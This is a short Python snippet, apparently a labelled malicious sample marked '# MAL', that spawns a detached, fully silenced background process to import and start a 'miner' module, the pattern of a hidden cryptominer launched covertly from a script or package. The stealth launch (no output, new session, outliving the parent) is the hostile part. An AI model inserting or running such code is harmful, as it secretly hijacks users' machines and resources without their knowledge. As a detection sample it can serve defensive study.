import subprocess
import sys

subprocess.Popen(  # MAL
    [sys.executable, "-c", "import miner; miner.start()"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    stdin=subprocess.DEVNULL,
    start_new_session=True,
)
